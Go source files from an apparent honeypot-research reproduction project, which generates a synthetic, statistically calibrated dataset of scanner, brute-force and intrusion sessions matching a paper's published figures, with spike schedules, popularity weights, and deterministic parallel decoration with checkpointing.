		t.Fatalf("degenerate report: %+v", rep)
	}
}
