package workload

import (
	"math"
	"math/rand"

	"honeyfarm/internal/analysis"
)

// Spike is one activity burst: a day range, an intensity multiplier for
// the affected category, and how many honeypots see it (the paper notes
// spikes are "often due to activity seen by only a small subset of the
// honeypots").
type Spike struct {
	Category   analysis.Category
	FirstDay   int
	LastDay    int
	Multiplier float64
	// Pots is the number of honeypots targeted; 0 = all.
	Pots int
}

// DefaultSpikes encodes the events the paper calls out on the 486-day
// timeline starting 2021-12-01: the spring-2022 FAIL_LOG spikes, the
// large 2022-09-05 burst (day 278), the 2022-11-05 FAIL_LOG spike seen
// by few honeypots (day 339), the December-2022 burst, and the June-2022
// CMD+URI burst (>2,500 IPs).
func DefaultSpikes() []Spike {
	return []Spike{
		{Category: analysis.FailLog, FirstDay: 130, LastDay: 133, Multiplier: 3.0, Pots: 40},
		{Category: analysis.FailLog, FirstDay: 155, LastDay: 157, Multiplier: 2.5, Pots: 25},
		{Category: analysis.FailLog, FirstDay: 278, LastDay: 278, Multiplier: 8.0, Pots: 3},
		{Category: analysis.NoCred, FirstDay: 278, LastDay: 278, Multiplier: 3.0, Pots: 3},
		{Category: analysis.FailLog, FirstDay: 339, LastDay: 339, Multiplier: 5.0, Pots: 5},
		{Category: analysis.FailLog, FirstDay: 385, LastDay: 388, Multiplier: 2.5, Pots: 30},
		{Category: analysis.CmdURI, FirstDay: 190, LastDay: 196, Multiplier: 6.0, Pots: 0},
		{Category: analysis.Cmd, FirstDay: 135, LastDay: 140, Multiplier: 2.0, Pots: 2},
	}
}

// Envelope returns category c's relative intensity on day d (mean ≈ 1
// over the period before spikes), encoding the paper's temporal
// narrative:
//
//   - NO_CRED (scanning): low for ~2 months until scanners discover the
//     fresh honeypot IPs, then a stable, slowly growing baseline
//     ("scanning does not stop").
//   - FAIL_LOG (scouting): ramps after ~1 month, then follows the
//     overall activity shape.
//   - NO_CMD: dominated by one prefix active at the start and end of
//     the period (>20% of sessions in those windows).
//   - CMD: intense December-2021→July-2022, a drop, then a rise in
//     January–March 2023.
//   - CMD+URI: a low base; bursts come from spikes and campaigns.
func Envelope(c analysis.Category, d, totalDays int) float64 {
	t := float64(d) / math.Max(1, float64(totalDays-1)) // 0..1
	switch c {
	case analysis.NoCred:
		// Discovery ramp centered around day ~60, then slight growth.
		ramp := logistic((float64(d) - 60) / 12)
		return 0.25 + ramp*(0.9+0.5*t)
	case analysis.FailLog:
		ramp := logistic((float64(d) - 30) / 8)
		return 0.3 + ramp*1.0
	case analysis.NoCmd:
		// High at both ends (the "Russian datacenter" prefix windows).
		start := logistic((60 - float64(d)) / 10)
		end := logistic((float64(d) - float64(totalDays-90)) / 10)
		return 0.35 + 2.2*start + 2.2*end
	case analysis.Cmd:
		// days 0..210 high, drop, rise after day ~390.
		high := logistic((210 - float64(d)) / 15)
		late := logistic((float64(d) - 390) / 12)
		return 0.45 + 1.1*high + 0.9*late
	case analysis.CmdURI:
		return 0.8 + 0.4*t
	}
	return 1
}

// logistic is the standard sigmoid.
func logistic(x float64) float64 { return 1 / (1 + math.Exp(-x)) }

// dailyQuota computes the session count for (category, day) from the
// period total, the category share, the envelope, spikes, and noise.
func dailyQuota(rng *rand.Rand, total int, share float64, c analysis.Category, d, totalDays int, spikes []Spike) (n int, spikePots int) {
	mean := float64(total) * share / float64(totalDays)
	v := mean * Envelope(c, d, totalDays)
	spikePots = 0
	for _, s := range spikes {
		if s.Category == c && d >= s.FirstDay && d <= s.LastDay {
			v *= s.Multiplier
			spikePots = s.Pots
		}
	}
	// Multiplicative day-to-day noise (±20%).
	v *= 0.8 + 0.4*rng.Float64()
	return int(v + 0.5), spikePots
}

// envelopeMean returns the mean of Envelope over the period, used to
// normalize shares so Table 1 holds despite non-flat envelopes.
func envelopeMean(c analysis.Category, totalDays int) float64 {
	sum := 0.0
	for d := 0; d < totalDays; d++ {
		sum += Envelope(c, d, totalDays)
	}
	return sum / float64(totalDays)
}
