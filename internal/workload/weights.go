// Package workload generates the honeyfarm's traffic: a calibrated
// synthetic population of scanners, scouters, intruders and campaign
// botnets whose session stream reproduces the paper's published
// aggregate shapes — Table 1's category/protocol mix, Figure 2's
// heavy-tailed honeypot popularity (knee ≈ rank 11, top-10 ≈ 14%,
// max/min > 30×), the client-behavior distributions of Figures 11–16,
// and the hash-campaign structure of Section 8 — at a configurable
// scale. This package substitutes the honeyfarm operator's proprietary
// 402-million-session dataset (see DESIGN.md §2).
package workload

import (
	"math"
	"math/rand"
	"sort"
)

// VisibilityWeights returns per-rank honeypot popularity weights with
// Figure 2's shape: a steep head of ≈n/20 honeypots, a knee, then a
// long mild tail, with max/min ≈ 30× and top-10 ≈ 14% of the mass for
// n = 221.
func VisibilityWeights(n int) []float64 {
	if n <= 0 {
		return nil
	}
	head := n / 20
	if head < 2 {
		head = 2
	}
	if head >= n {
		head = n - 1
	}
	const (
		maxW     = 4.3
		kneeW    = 1.2
		tailTopW = 1.15
		minW     = 0.09
	)
	w := make([]float64, n)
	for r := 0; r < head; r++ {
		frac := float64(r) / float64(head)
		w[r] = maxW + (kneeW-maxW)*frac
	}
	for r := head; r < n; r++ {
		frac := float64(r-head) / math.Max(1, float64(n-head-1))
		w[r] = tailTopW + (minW-tailTopW)*frac
	}
	return w
}

// Permuted maps rank-ordered weights onto honeypot IDs using a seeded
// permutation, so that "top by sessions", "top by clients" and "top by
// hashes" can be different honeypots — one of the paper's central
// observations (Sections 4, 7.5, 8.4).
func Permuted(weights []float64, seed int64) []float64 {
	rng := rand.New(rand.NewSource(seed))
	out := make([]float64, len(weights))
	for i, p := range rng.Perm(len(weights)) {
		out[p] = weights[i]
	}
	return out
}

// Sampler draws indexes proportionally to a weight vector in O(log n)
// using a cumulative table.
type Sampler struct {
	cum []float64
}

// NewSampler builds a sampler; weights must be non-negative with a
// positive sum.
func NewSampler(weights []float64) *Sampler {
	cum := make([]float64, len(weights))
	acc := 0.0
	for i, w := range weights {
		if w < 0 {
			w = 0
		}
		acc += w
		cum[i] = acc
	}
	return &Sampler{cum: cum}
}

// Sample draws one index.
func (s *Sampler) Sample(rng *rand.Rand) int {
	if len(s.cum) == 0 {
		return 0
	}
	total := s.cum[len(s.cum)-1]
	x := rng.Float64() * total
	return sort.SearchFloat64s(s.cum, x)
}

// SampleK draws k distinct indexes, weighted, by rejection (k should be
// much smaller than n; falls back to a full scan otherwise).
func (s *Sampler) SampleK(rng *rand.Rand, k int) []int {
	n := len(s.cum)
	if k >= n {
		out := make([]int, n)
		for i := range out {
			out[i] = i
		}
		return out
	}
	seen := make(map[int]struct{}, k)
	out := make([]int, 0, k)
	for tries := 0; len(out) < k && tries < 20*k+100; tries++ {
		i := s.Sample(rng)
		if _, dup := seen[i]; dup {
			continue
		}
		seen[i] = struct{}{}
		out = append(out, i)
	}
	// Fill any shortfall deterministically.
	for i := 0; len(out) < k && i < n; i++ {
		if _, dup := seen[i]; !dup {
			seen[i] = struct{}{}
			out = append(out, i)
		}
	}
	return out
}

// FanoutDistribution draws how many distinct honeypots a client
// *aims* to contact. The population-level result matches Figure 12
// (>40% exactly one, ≈18% more than 10, ≈2% more than half the farm);
// the raw distribution oversamples wide scanners because campaign bots
// and ephemeral scan-and-go clients — generated separately — are
// narrow, and because a client only realizes its fan-out if it sends
// enough sessions.
func FanoutDistribution(rng *rand.Rand, numPots int) int {
	x := rng.Float64()
	switch {
	case x < 0.42:
		return 1
	case x < 0.53:
		return 2 + rng.Intn(4) // 2–5
	case x < 0.63:
		return 6 + rng.Intn(5) // 6–10
	case x < 0.97:
		// 11 .. numPots/2: log-uniform
		lo, hi := 11.0, math.Max(12, float64(numPots)/2)
		return int(lo * math.Pow(hi/lo, rng.Float64()))
	default:
		// > half the farm
		lo := float64(numPots)/2 + 1
		hi := float64(numPots)
		if lo >= hi {
			return numPots
		}
		return int(lo + rng.Float64()*(hi-lo))
	}
}

// LifespanDistribution draws a client's active-day count, matching
// Figure 13: most IPs a single day, a geometric tail, and a tiny
// population of near-daily "daemon" clients.
func LifespanDistribution(rng *rand.Rand, totalDays int) int {
	x := rng.Float64()
	switch {
	case x < 0.72:
		return 1
	case x < 0.90:
		return 2 + rng.Intn(6) // 2–7: "20% of activity observed for more than a week"
	case x < 0.999:
		// Geometric-ish tail up to a few months.
		d := int(math.Exp(rng.Float64()*math.Log(120))) + 7
		if d > totalDays {
			d = totalDays
		}
		return d
	default:
		// Daemons: active >90% of the period (the paper's ">100 client
		// IPs active almost every day").
		d := int(float64(totalDays) * (0.92 + 0.08*rng.Float64()))
		if d < 1 {
			d = 1
		}
		return d
	}
}
