package workload

import (
	"fmt"
	"math"
	"math/rand"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/store"
)

// PaperTotalSessions is the paper's dataset size; the generator's scale
// factor is TotalSessions / PaperTotalSessions.
const PaperTotalSessions = 402_000_000

// PaperDays is the observation period length (2021-12-01 → 2023-03-31).
const PaperDays = 486

// CategoryShare is Table 1's top row: the fraction of all sessions per
// category.
var CategoryShare = [analysis.NumCategories]float64{
	analysis.NoCred:  0.277,
	analysis.FailLog: 0.42,
	analysis.NoCmd:   0.116,
	analysis.Cmd:     0.18,
	analysis.CmdURI:  0.007,
}

// SSHShare is Table 1's per-category protocol split: the fraction of
// each category's sessions that use SSH.
var SSHShare = [analysis.NumCategories]float64{
	analysis.NoCred:  0.2182,
	analysis.FailLog: 0.9924,
	analysis.NoCmd:   0.9830,
	analysis.Cmd:     0.9369,
	analysis.CmdURI:  0.6245,
}

// sessionsPerActorDay tunes how many category-c sessions one active
// client emits per day, which sets the daily-unique-IP levels of
// Figure 11 relative to the session totals.
var sessionsPerActorDay = [analysis.NumCategories]float64{
	analysis.NoCred:  3.0,
	analysis.FailLog: 4.0,
	analysis.NoCmd:   1.5,
	analysis.Cmd:     2.0,
	analysis.CmdURI:  1.5,
}

// Config parameterizes dataset generation.
type Config struct {
	Seed          int64
	TotalSessions int // default 400,000 (≈1/1000 of the paper)
	Days          int // default 486
	NumPots       int // default 221
	Registry      *geo.Registry
	Epoch         time.Time
	Spikes        []Spike // default DefaultSpikes()
	// Workers is the number of goroutines decorating planned sessions
	// into records (default GOMAXPROCS). The output is byte-identical
	// for every value: record noise comes from per-shard rand streams
	// derived from Seed and the shard index, and shards merge in index
	// order, so Workers only changes wall-clock time, never the dataset.
	Workers int
	// IPDivisor scales campaign client-IP counts (default 40). Counts
	// below 100 are kept absolute so "handful of IPs" campaigns stay
	// a handful.
	IPDivisor float64
	// MidTierCampaigns sets the multi-week hash-campaign count feeding
	// Figure 17's recurring base (default scales with TotalSessions).
	MidTierCampaigns int
	// DisableCampaigns drops all hash campaigns (archetypes, Mirai
	// cluster, mid-tier), leaving only the generic background — the
	// ablation isolating how much of the paper's hash landscape is
	// campaign-driven.
	DisableCampaigns bool
	// Shares overrides Table 1's category mix (must sum to ≈1); nil
	// keeps the paper's calibration.
	Shares *[analysis.NumCategories]float64
	// SSHShares overrides the per-category SSH fraction; nil keeps the
	// paper's calibration.
	SSHShares *[analysis.NumCategories]float64
	// Faults, when non-nil and active, culls sessions the fault plan
	// would have lost: sessions on a pot inside an outage window, plus a
	// DropsSession share modeling refused/reset/stalled connections. The
	// cull draws only from the plan's own splitmix64 streams — never from
	// the planning RNG — so the surviving records are byte-identical to
	// the corresponding subset of the fault-free dataset.
	Faults *faults.Plan
	// CheckpointDir, when set, makes generation durable: every completed
	// decoration shard is appended to a write-ahead log in this
	// directory, and a manifest fingerprints the configuration. An
	// interrupted run restarted with Resume skips every shard the WAL
	// already holds and produces byte-identical output to an
	// uninterrupted run (shard decoration depends only on (Seed, shard),
	// never on which run performed it).
	CheckpointDir string
	// Resume continues from CheckpointDir's previous run. A checkpoint
	// created by a different configuration is refused; a missing
	// checkpoint starts a fresh one.
	Resume bool
}

// Result is a generated dataset plus its provenance.
type Result struct {
	Store  *store.Store
	Actors int
	// Tags maps every campaign hash to its tag, feeding the Tagger.
	Tags map[string]string
	// Deployments echoes placement for downstream analyses.
	Deployments []geo.Deployment
	// Faults reports per-pot downtime and drop counters when Config.Faults
	// was active; nil otherwise.
	Faults *faults.Report
}

// Tagger returns the hash tagger for this dataset.
func (r *Result) Tagger() analysis.Tagger {
	return analysis.Tagger(malware.NewTagger(r.Tags))
}

// recentHash is one reuse-pool entry: a hash and the honeypot it was
// first dropped on (reuse prefers the same honeypot, keeping most tail
// hashes honeypot-local).
type recentHash struct {
	hash string
	pot  int
}

// Plan-entry kinds. The planning pass resolves everything that needs
// shared generator state — actor identity, honeypot choice, file-hash
// reuse, campaign cursors — into one of these; the decoration pass then
// fills in pure per-record noise from an isolated shard rand stream.
const (
	kindGeneric uint8 = iota
	kindCompanion
	kindCampaign
	kindCampaignFail
)

// planned is one scheduled session awaiting decoration. It pins the
// state-coupled identity of the record (who, where, which day, which
// hashes, which campaign); the decorator fills in everything whose
// distribution is independent per record (protocol, port, timestamps,
// credential lists, durations).
type planned struct {
	kind uint8
	cat  analysis.Category
	day  int
	pot  int
	ip   string
	// start anchors campaign records: the intrusion's start is drawn in
	// the plan because its FAIL_LOG precursor — possibly decorated in a
	// different shard — must start minutes before it.
	start time.Time
	camp  *campaign
	// hashes are the file hashes of a generic CMD/CMD+URI session,
	// resolved in the plan because the reuse pool is shared state.
	hashes []string
}

// generator carries the planning-pass state. Everything mutable in here
// is owned by the single sequential planning goroutine; the decoration
// workers only read cfg, shares and the finished plan.
type generator struct {
	cfg       Config
	shares    [analysis.NumCategories]float64
	sshShares [analysis.NumCategories]float64
	rng       *rand.Rand
	pop       *population
	plan      []planned

	potSessionWeights []float64
	potHashWeights    []float64
	hashPots          *Sampler         // pot bias for file-creating sessions
	spikeSets         map[string][]int // per-spike pot subsets

	recentHashes []recentHash // reuse pool for generic file sessions
	tailSeq      int
	tags         map[string]string

	deployments []geo.Deployment
	// potsByCountry / potsByContinent index honeypots by location for the
	// CMD+URI locality bias (Figure 16(b): sessions with URIs show more
	// geographic proximity between client and honeypot).
	potsByCountry   map[string][]int
	potsByContinent map[geo.Continent][]int
}

// Generate produces a calibrated synthetic dataset. All randomness
// derives from cfg.Seed; see GenerateRand to thread a caller-owned
// source for the session stream.
func Generate(cfg Config) (*Result, error) {
	return GenerateRand(rand.New(rand.NewSource(cfg.Seed)), cfg)
}

// GenerateRand is Generate with an explicit, caller-seeded random
// source driving the planning pass — the form the determinism contract
// prefers. cfg.Seed still anchors the derived sub-streams that must
// stay aligned with the farm: honeypot placement, the per-honeypot
// weight permutations, and the per-shard decoration streams.
//
// Generation runs in two phases. A sequential planning pass walks the
// calibrated schedule and resolves every decision that touches shared
// state (actor pools, honeypot cursors, the file-hash reuse pool,
// campaign rotation) into a flat plan. Then cfg.Workers goroutines
// decorate fixed-size plan shards into session records, each from its
// own rand stream seeded by (Seed, shard index), and the shards merge
// in index order — so the serialized dataset is byte-identical for any
// worker count, including 1.
func GenerateRand(rng *rand.Rand, cfg Config) (*Result, error) {
	if cfg.Registry == nil {
		return nil, fmt.Errorf("workload: Config.Registry is required")
	}
	if err := cfg.Faults.Validate(); err != nil {
		return nil, fmt.Errorf("workload: %w", err)
	}
	if cfg.TotalSessions <= 0 {
		cfg.TotalSessions = 400_000
	}
	if cfg.Days <= 0 {
		cfg.Days = PaperDays
	}
	if cfg.NumPots <= 0 {
		cfg.NumPots = 221
	}
	if cfg.Epoch.IsZero() {
		cfg.Epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	}
	if cfg.Spikes == nil {
		cfg.Spikes = DefaultSpikes()
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.IPDivisor <= 0 {
		cfg.IPDivisor = 40
	}
	if cfg.MidTierCampaigns <= 0 {
		cfg.MidTierCampaigns = 40 + cfg.TotalSessions/2500
	}

	base := VisibilityWeights(cfg.NumPots)
	shares := CategoryShare
	if cfg.Shares != nil {
		shares = *cfg.Shares
	}
	sshShares := SSHShare
	if cfg.SSHShares != nil {
		sshShares = *cfg.SSHShares
	}
	g := &generator{
		cfg:       cfg,
		shares:    shares,
		sshShares: sshShares,
		rng:       rng,
		// Distinct permutations: the honeypots with the most sessions are
		// NOT the ones with the most clients or hashes (Sections 7.5, 8.4).
		potSessionWeights: Permuted(base, cfg.Seed+101),
		potHashWeights:    Permuted(base, cfg.Seed+202),
		spikeSets:         make(map[string][]int),
		tags:              make(map[string]string),
	}
	g.hashPots = NewSampler(g.potHashWeights)
	g.pop = newPopulation(rng, cfg.Registry, cfg.NumPots, cfg.Days, g.potSessionWeights)

	deployments, err := geo.Place(geo.PlacementConfig{
		Seed: cfg.Seed, NumPots: cfg.NumPots,
		NumASes:  numASesFor(cfg.NumPots),
		Registry: cfg.Registry, Residental: true,
		Countries: countriesFor(cfg.NumPots),
	})
	if err != nil {
		return nil, fmt.Errorf("workload: placement: %w", err)
	}

	g.deployments = deployments
	g.potsByCountry = make(map[string][]int)
	g.potsByContinent = make(map[geo.Continent][]int)
	for _, dep := range deployments {
		if loc, ok := cfg.Registry.Lookup(dep.IP); ok {
			g.potsByCountry[loc.Country] = append(g.potsByCountry[loc.Country], dep.ID)
			g.potsByContinent[loc.Continent] = append(g.potsByContinent[loc.Continent], dep.ID)
		}
	}

	var campaigns []*campaign
	if !cfg.DisableCampaigns {
		campaigns = g.buildCampaigns()
	}
	// Subtract expected campaign volume from the generic category quotas
	// so Table 1's aggregate shares still hold.
	var campaignSessions [analysis.NumCategories]int
	for _, c := range campaigns {
		campaignSessions[c.category] += c.sessions
		// 40% of campaign sessions carry a FAIL_LOG precursor.
		campaignSessions[analysis.FailLog] += c.sessions * 2 / 5
	}

	// Expected FAIL_LOG companion volume from ephemeral scanners (see
	// actorFor) is pre-deducted from the FAIL_LOG budget.
	ephemeralFailLog := int(0.12 * 0.3 * float64(cfg.TotalSessions) * shares[analysis.NoCred])
	campaignSessions[analysis.FailLog] += ephemeralFailLog

	g.plan = make([]planned, 0, cfg.TotalSessions+cfg.TotalSessions/8)

	// Generation order matters: FAIL_LOG and CMD run first so that the
	// crossover picks building multi-role clients (Section 7.5) find
	// populated pools.
	order := []analysis.Category{analysis.FailLog, analysis.Cmd, analysis.NoCred, analysis.NoCmd, analysis.CmdURI}
	for _, c := range order {
		total := int(float64(cfg.TotalSessions)*shares[c]) - campaignSessions[c]
		if total < 0 {
			total = 0
		}
		g.planGeneric(c, total, cfg.Days)
	}
	for _, c := range campaigns {
		g.planCampaign(c)
	}

	dropped, report := g.cull()

	ckpt, err := openCheckpoint(cfg)
	if err != nil {
		return nil, fmt.Errorf("workload: checkpoint: %w", err)
	}
	st, err := g.decorate(dropped, ckpt)
	if err != nil {
		return nil, fmt.Errorf("workload: %w", err)
	}

	return &Result{
		Store:       st,
		Actors:      g.pop.actors,
		Tags:        g.tags,
		Deployments: deployments,
		Faults:      report,
	}, nil
}

// cull marks the planned sessions the fault plan loses: everything
// aimed at a pot inside an outage window, plus the DropsSession share
// standing in for refused/reset/stalled connections. The decision for
// plan index i depends only on (plan seed, i) and the outage table —
// the planning RNG is never consulted — so culling changes which
// records exist but never the bytes of the survivors.
func (g *generator) cull() ([]bool, *faults.Report) {
	plan := g.cfg.Faults
	if !plan.Active() {
		return nil, nil
	}
	report := faults.NewReport(plan, g.cfg.NumPots, g.cfg.Days)
	dropped := make([]bool, len(g.plan))
	for i := range g.plan {
		p := &g.plan[i]
		switch {
		case plan.PotDown(p.pot, p.day):
			dropped[i] = true
			report.AddDowntimeDrop(p.pot)
		case plan.DropsSession(uint64(i)):
			dropped[i] = true
			report.AddConnDrop(p.pot)
		}
	}
	return dropped, report
}

// countriesFor keeps the default 55-country list when the farm is big
// enough, otherwise truncates it.
func countriesFor(numPots int) []string {
	if numPots >= len(geo.HoneyfarmCountries) {
		return nil
	}
	return geo.HoneyfarmCountries[:numPots]
}

func numASesFor(numPots int) int {
	if numPots >= 65 {
		return 65
	}
	return numPots
}

// planGeneric schedules the non-campaign sessions of one category.
func (g *generator) planGeneric(c analysis.Category, total, days int) {
	if total <= 0 {
		return
	}
	norm := envelopeMean(c, days)
	share := 1.0 / norm // normalize envelope so the period total ≈ total
	for d := 0; d < days; d++ {
		n, spikePots := dailyQuota(g.rng, total, share, c, d, days, g.cfg.Spikes)
		var spikeSet []int
		if spikePots > 0 {
			spikeSet = g.spikeSet(c, spikePots)
		}
		target := int(float64(n)/sessionsPerActorDay[c]) + 1
		for i := 0; i < n; i++ {
			a := g.actorFor(c, d, target)
			set := spikeSet
			// Only the spike surplus routes to the spike subset; the
			// baseline stays spread out.
			if set != nil && g.rng.Float64() < 0.3 {
				set = nil
			}
			g.planSession(c, d, a, set)
		}
	}
}

// actorFor picks the session's client. NO_CMD's start/end windows route
// to the dedicated datacenter prefix (Section 6: "a single prefix
// originates most of these sessions ... a Russian datacenter"); other
// sessions sometimes reuse a client from a different category's pool,
// which is what makes >40% of IPs multi-category (Section 7.5: 222k of
// the 450k CMD clients also run FAIL_LOG sessions).
func (g *generator) actorFor(c analysis.Category, d, target int) *actor {
	if c == analysis.NoCmd && (d < 60 || d > g.cfg.Days-90) && g.rng.Float64() < 0.7 {
		return g.pop.ruActor()
	}
	if alt, p := crossSource(c); p > 0 && g.rng.Float64() < p {
		if a := g.pop.fromPool(alt, d, g.rng); a != nil {
			return a
		}
	}
	// Scouting also reuses the day's scanners: the scan→brute-force
	// pipeline runs from the same compromised hosts.
	if c == analysis.FailLog && g.rng.Float64() < 0.30 {
		if a := g.pop.fromPool(analysis.NoCred, d, g.rng); a != nil {
			return a
		}
	}
	// A slice of scans comes from throwaway one-day clients; a third of
	// them also try credentials the same day (scan → brute-force).
	if c == analysis.NoCred && g.rng.Float64() < 0.12 {
		a := g.pop.newEphemeral(d, c)
		if g.rng.Float64() < 0.3 {
			g.plan = append(g.plan, planned{
				kind: kindCompanion, cat: analysis.FailLog, day: d,
				pot: a.pots[0], ip: a.ip,
			})
		}
		return a
	}
	return g.pop.pick(c, d, target)
}

// crossSource returns the category whose clients category c borrows
// from, and how often.
func crossSource(c analysis.Category) (analysis.Category, float64) {
	switch c {
	case analysis.NoCred:
		return analysis.FailLog, 0.40
	case analysis.FailLog:
		return analysis.Cmd, 0.35
	case analysis.Cmd:
		return analysis.FailLog, 0.50
	case analysis.NoCmd:
		return analysis.FailLog, 0.20
	case analysis.CmdURI:
		return analysis.Cmd, 0.30
	}
	return c, 0
}

// spikeSet returns (and caches) the honeypot subset targeted by a spike.
func (g *generator) spikeSet(c analysis.Category, n int) []int {
	key := fmt.Sprintf("%d/%d", c, n)
	if set, ok := g.spikeSets[key]; ok {
		return set
	}
	set := NewSampler(g.potSessionWeights).SampleK(g.rng, n)
	g.spikeSets[key] = set
	return set
}

// planSession schedules one generic session of category c: honeypot
// choice (cursor-coupled) and file hashes (reuse-pool-coupled) are
// resolved now; the rest decorates later.
func (g *generator) planSession(c analysis.Category, day int, a *actor, spikeSet []int) {
	pot := g.pop.potFor(a, g.rng, spikeSet)
	// File-creating sessions concentrate on a different honeypot head
	// than raw session volume: the paper finds the hash-richest honeypots
	// are not the busiest ones (Section 8.4).
	if (c == analysis.Cmd || c == analysis.CmdURI) && g.rng.Float64() < 0.45 {
		pot = g.hashPots.Sample(g.rng)
	}
	// CMD+URI clients pick targets closer to home (Figure 16(b)):
	// "geographic locality may matter more when clients start picking
	// targets for specific tasks".
	if c == analysis.CmdURI {
		pot = g.localizePot(a, pot)
	}
	p := planned{kind: kindGeneric, cat: c, day: day, ip: a.ip}
	switch c {
	case analysis.Cmd:
		if g.rng.Float64() < 1.0/3.0 {
			// "about one third [of command sessions] create or modify
			// files" (Section 6).
			hash, override := g.genericFile(day, pot)
			if override >= 0 {
				pot = override
			}
			p.hashes = append(p.hashes, hash)
			if g.rng.Float64() < 0.015 {
				extra, _ := g.genericFile(day, pot)
				p.hashes = append(p.hashes, extra)
			}
		}
	case analysis.CmdURI:
		hash, override := g.genericFile(day, pot)
		if override >= 0 {
			pot = override
		}
		p.hashes = append(p.hashes, hash)
	}
	p.pot = pot
	g.plan = append(g.plan, p)
}

// localizePot redirects a session toward a honeypot in the client's
// country (25%) or continent (30%) when the farm has one there.
func (g *generator) localizePot(a *actor, pot int) int {
	if a.country < 0 || a.country >= len(g.cfg.Registry.Countries()) {
		return pot
	}
	country := g.cfg.Registry.Countries()[a.country]
	r := g.rng.Float64()
	if r < 0.25 {
		if pots := g.potsByCountry[country.Code]; len(pots) > 0 {
			return pots[g.rng.Intn(len(pots))]
		}
	}
	if r < 0.55 {
		if pots := g.potsByContinent[country.Continent]; len(pots) > 0 {
			return pots[g.rng.Intn(len(pots))]
		}
	}
	return pot
}

// genericFile resolves the file hash of a generic command session: half
// the time a brand-new single-observation hash (the long tail that
// makes >60% of hashes honeypot-local), otherwise a recently seen one —
// which prefers the honeypot it first landed on. The second return is
// the honeypot override (-1 for none).
func (g *generator) genericFile(day, pot int) (string, int) {
	var hash string
	override := -1
	if len(g.recentHashes) == 0 || g.rng.Float64() < 0.4 {
		g.tailSeq++
		hash = malware.SyntheticHash(fmt.Sprintf("tail-%d-%d", day, g.tailSeq))
		g.recentHashes = append(g.recentHashes, recentHash{hash: hash, pot: pot})
		if len(g.recentHashes) > 60 {
			g.recentHashes = g.recentHashes[len(g.recentHashes)-60:]
		}
	} else {
		// Bias reuse toward the most recent hashes so reuse decays over
		// a few days, as Figure 17's 7-day freshness implies.
		n := len(g.recentHashes)
		idx := n - 1 - int(math.Floor(float64(n)*math.Pow(g.rng.Float64(), 3)))
		if idx < 0 {
			idx = 0
		}
		entry := g.recentHashes[idx]
		hash = entry.hash
		if g.rng.Float64() < 0.75 {
			override = entry.pot // repeat drop on the same honeypot
		}
	}
	return hash, override
}

// ---- decoration: the parallel phase ----

// decorateShardSize is the fixed plan-shard length. It is independent
// of Workers on purpose: shard boundaries (and hence each record's rand
// stream) depend only on the plan, so every worker count decorates the
// identical dataset.
const decorateShardSize = 4096

// shardSeed derives shard i's rand seed from the root seed with a
// splitmix64-style mix, so neighboring shards get uncorrelated streams.
func shardSeed(seed int64, shard int) int64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(uint64(shard)+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// decorate expands the plan into session records across cfg.Workers
// goroutines and seals them into a store. Workers claim shard indexes
// from an atomic counter and write into per-shard builder buffers;
// Seal's index-order merge restores the plan order regardless of which
// worker finished when. With a checkpoint open, shards recovered from
// the WAL are installed verbatim (their decoration already happened in
// a previous run) and fresh shards are appended to the WAL as they
// complete.
func (g *generator) decorate(dropped []bool, ckpt *checkpoint) (*store.Store, error) {
	nShards := (len(g.plan) + decorateShardSize - 1) / decorateShardSize
	b := store.NewBuilder(g.cfg.Epoch, nShards)
	workers := g.cfg.Workers
	if workers > nShards {
		workers = nShards
	}
	if workers < 1 {
		workers = 1
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for shard := int(next.Add(1)) - 1; shard < nShards; shard = int(next.Add(1)) - 1 {
				g.decorateShard(b, shard, dropped, ckpt)
			}
		}()
	}
	wg.Wait()
	if ckpt != nil {
		if err := ckpt.close(); err != nil {
			return nil, fmt.Errorf("checkpoint: %w", err)
		}
	}
	return b.Seal(), nil
}

// decorateShard fills builder shard i from its derived rand stream.
// Record IDs are the 1-based plan indexes, assigned here so they are
// stable under any worker count. Culled entries still consume their
// plan index (leaving an ID gap) but are decorated and discarded rather
// than skipped, keeping the shard's rand stream — and therefore every
// surviving record — byte-identical to the fault-free run.
//
// A shard the checkpoint already holds is installed as-is without
// consuming any randomness: its stream was derived from (Seed, shard)
// alone, so the recovered bytes are exactly what re-decoration would
// produce, and skipping it cannot perturb any other shard.
func (g *generator) decorateShard(b *store.Builder, shard int, dropped []bool, ckpt *checkpoint) {
	if ckpt != nil {
		if recs, ok := ckpt.shard(shard); ok {
			b.SetShard(shard, recs)
			return
		}
	}
	rng := rand.New(rand.NewSource(shardSeed(g.cfg.Seed, shard)))
	lo := shard * decorateShardSize
	hi := min(lo+decorateShardSize, len(g.plan))
	recs := make([]*honeypot.SessionRecord, 0, hi-lo)
	for i := lo; i < hi; i++ {
		rec := g.decorateOne(rng, &g.plan[i], uint64(i)+1)
		if dropped == nil || !dropped[i] {
			recs = append(recs, rec)
		}
	}
	b.SetShard(shard, recs)
	if ckpt != nil {
		ckpt.append(shard, recs)
	}
}

// decorateOne turns one planned session into a full record, drawing all
// per-record noise from the shard stream.
func (g *generator) decorateOne(rng *rand.Rand, p *planned, id uint64) *honeypot.SessionRecord {
	switch p.kind {
	case kindCompanion:
		return g.decorateCompanion(rng, p, id)
	case kindCampaign:
		return g.decorateCampaign(rng, p, id)
	case kindCampaignFail:
		return decorateCampaignFail(rng, p, id)
	default:
		return g.decorateGeneric(rng, p, id)
	}
}

// dayStart draws a uniform timestamp within the planned day.
func (g *generator) dayStart(rng *rand.Rand, day int) time.Time {
	return g.cfg.Epoch.Add(time.Duration(day)*24*time.Hour +
		time.Duration(rng.Int63n(int64(24*time.Hour))))
}

// decorateGeneric builds one generic session record of category p.cat.
func (g *generator) decorateGeneric(rng *rand.Rand, p *planned, id uint64) *honeypot.SessionRecord {
	c := p.cat
	proto := honeypot.Telnet
	if rng.Float64() < g.sshShares[c] {
		proto = honeypot.SSH
	}
